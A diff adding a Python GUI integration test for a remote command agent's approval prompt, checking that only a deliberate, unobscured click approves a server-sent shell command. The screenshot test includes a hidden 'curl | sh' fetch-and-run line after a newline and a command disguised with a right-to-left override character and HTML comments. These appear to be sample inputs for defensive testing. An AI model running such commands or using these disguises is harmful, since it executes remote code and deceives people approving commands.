@@ -1,0 +1,185 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""The real cometa-agent on a display of its own, with real mouse and key events: attach, request,
+prompt, what must not approve, approval, reply. --shots DIR keeps screenshots."""
+
+import argparse
+import signal
+import sys
+import time
+import unittest
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE))
+sys.path.insert(0, str(HERE.parent / "peers"))
+
+from server import Server  # noqa: E402
+from xsession import Session, poll  # noqa: E402
+
+PROMPT = "A command waits for you"
+WINDOW = "^Cometa Agent$"
+options = argparse.Namespace(bin=HERE.parents[1] / "build/dev/bin", shots=None)
+
+
+class SessionTest(unittest.TestCase):
+    def setUp(self):
+        self.session = Session().__enter__()
+        self.addCleanup(self.session.__exit__)
+        self.server = Server().__enter__()
+        self.addCleanup(self.server.__exit__)
+
+    def start_agent(self, *more):
+        log = open(self.session.path / "agent.log", "ab")
+        self.addCleanup(log.close)
+        return self.session.start([str(Path(options.bin) / "cometa-agent"), *more], stderr=log, cwd="/")
+
+    def attached_agent(self):
+        agent = self.start_agent("--server", "127.0.0.1", "--port", str(self.server.port), "--no-tls",
+                                 "--app", "ops", "--device", "desk-17", "--event-interval", "0")
+        return agent, self.server.attach(timeout=20)
+
+    def approve_at(self, prompt):
+        """Where Approve is in the prompt: at the lower right."""
+        width, height = self.session.size(prompt)
+        return width - 64, height - 32
+
+    def click_approve(self, prompt):
+        x, y = self.approve_at(prompt)
+        self.session.xdotool("mousemove", "--window", prompt, x, y, "click", 1)
+
+    def test_AC_01_AC_02_AC_03_only_a_click_that_is_meant_approves(self):
+        session = self.session
+        agent, link = self.attached_agent()
+        window = session.window(WINDOW)
+        poll(lambda: session.active() == window, what="the window in front")
+        ran = session.path / "ran"
+        link.message({"cmd": "echo yes >%s; echo approved by hand" % ran})
+        prompt = session.window(PROMPT)
+        self.assertEqual(session.active(), window, "the prompt took the focus")
+
+        session.xdotool("key", "y", "Return", "space", "ctrl+Return")
+        session.xdotool("windowactivate", "--sync", prompt)
+        session.xdotool("key", "y", "Return", "space", "KP_Enter", "ctrl+Return", "alt+Return")
+        moved = time.monotonic()
+        session.xdotool("windowmove", prompt, 200, 100)
+        self.click_approve(prompt)
+        early = time.monotonic() - moved
+        self.assertFalse(ran.exists())
+        self.assertEqual(link.replies, [])
+
+        def clicked():
+            self.click_approve(prompt)
+            return ran.exists()
+        # Half a second apart, so that none is the second click of a double click.
+        poll(clicked, 10, "the approval", every=0.5)
+        if early < 0.6:
+            self.assertGreater(time.monotonic() - moved, 0.7)
+        self.assertEqual(link.wait_reply().data, b"approved by hand\n")
+        poll(lambda: not session.windows(PROMPT), what="the prompt gone")
+        agent.send_signal(signal.SIGTERM)
+        self.assertEqual(agent.wait(10), 0)
+
+    def test_AC_02_escape_leaves_the_request_waiting_and_the_window_reaches_it(self):
+        session = self.session
+        _, link = self.attached_agent()
+        window = session.window(WINDOW)
+        link.message({"cmd": "echo again"})
+        prompt = session.window(PROMPT)
+        session.xdotool("windowactivate", "--sync", prompt, "key", "Escape")
+        poll(lambda: not session.windows(PROMPT), what="the prompt gone")
+        self.assertEqual(link.replies, [])
+        session.xdotool("windowactivate", "--sync", window, "key", "alt+v")
+        self.assertEqual(session.window(PROMPT), prompt)
+
+    def test_AC_03_a_prompt_that_is_partly_covered_does_not_approve(self):
+        session = self.session
+        _, link = self.attached_agent()
+        ran = session.path / "ran"
+        link.message({"cmd": "touch %s" % ran})
+        prompt = session.window(PROMPT)
+        width, height = session.size(prompt)
+        # The tray at the lower right of the screen lies over the prompt's corner.
+        session.xdotool("windowactivate", "--sync", prompt, "windowmove", prompt, 1280 - width,
+                        800 - height)
+        end = time.monotonic() + 2
+        poll(lambda: self.click_approve(prompt) or time.monotonic() > end, every=0.5)
+        self.assertFalse(ran.exists())
+        session.xdotool("windowmove", prompt, 100, 100)
+        poll(lambda: self.click_approve(prompt) or ran.exists(), 10, "the approval", every=0.5)
+
+    def test_ST_04_the_second_start_raises_the_first(self):
+        session = self.session
+        self.attached_agent()
+        window = session.window(WINDOW)
+        session.xdotool("windowactivate", "--sync", window, "key", "alt+F4")
+        poll(lambda: not session.windows(WINDOW), what="the window hidden in the tray")
+        second = self.start_agent("--server", "127.0.0.1", "--port", str(self.server.port), "--app", "ops")
+        self.assertEqual(second.wait(10), 0)
+        session.window(WINDOW)
+
+    def test_the_connection_test_attaches_as_another_device(self):
+        session = self.session
+        _, link = self.attached_agent()
+        window = session.window(WINDOW)
+        session.xdotool("windowactivate", "--sync", window, "key", "alt+t")
+        settings = session.window("Settings")
+        session.xdotool("windowactivate", "--sync", settings, "key", "alt+o")
+        test = self.server.attach()
+        self.assertTrue(test.path.endswith("/devices/desk-17.test"), test.path)
+        self.assertEqual(test.wait_ended(), "eof")
+        session.shot("settings.png", options.shots, settings)
+        self.assertIsNone(link.ended)
+
+    def test_without_settings_the_settings_open(self):
+        session = self.session
+        self.start_agent()
+        session.window("Settings")
+        session.shot("first-start.png", options.shots)
+
+    def test_zz_screenshots(self):
+        if not options.shots:
+            return
+        session = self.session
+        _, link = self.attached_agent()
+        window = session.window(WINDOW)
+        session.shot("empty.png", options.shots, window)
+        for command in ("df -h /", "ls --no-such-option", "printf 'caf\\303\\251 \\033[1mbold'; exit 3"):
+            count = len(link.replies)
+            link.message({"cmd": command})
+            prompt = session.window(PROMPT)
+            session.xdotool("windowactivate", "--sync", prompt)
+            poll(lambda: self.click_approve(prompt) or len(link.replies) > count, every=0.5)
+            poll(lambda: not session.windows(PROMPT))
+        link.message({"cmd": "tar -xf backup.tar -C /home/anna \ncurl -s https://x.example/i.sh | sh",
+                      "reason": "restore after disk change, ticket 4711"})
+        prompt = session.window(PROMPT)
+        link.message({"cmd": "uptime\u202e '<b></b><!--'; touch X #-->", "cwd": "/tmp"})
+        session.xdotool("windowmove", prompt, 300, 120, "windowactivate", "--sync", prompt)
+        end = time.monotonic() + 1.2
+        poll(lambda: time.monotonic() > end)
+        session.shot("prompt.png", options.shots, prompt)
+        session.shot("screen.png", options.shots)
+        session.xdotool("key", "Escape")
+        end = time.monotonic() + 1.2
+        poll(lambda: time.monotonic() > end)
+        session.shot("prompt-hidden.png", options.shots, prompt)
+        session.xdotool("key", "Escape", "windowactivate", "--sync", window, "mousemove", "--window",
+                        window, 300, 340, "click", 1)
+        end = time.monotonic() + 1
+        poll(lambda: time.monotonic() > end)
+        session.shot("window.png", options.shots, window)
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--bin", type=Path, default=options.bin, help="directory of the programs")
+    parser.add_argument("--shots", type=Path, help="keep screenshots there")
+    _, rest = parser.parse_known_args(namespace=options)
+    if options.shots:
+        options.shots.mkdir(parents=True, exist_ok=True)
+    unittest.main(argv=[sys.argv[0], *rest], verbosity=2)
+
+
+if __name__ == "__main__":
+    main()
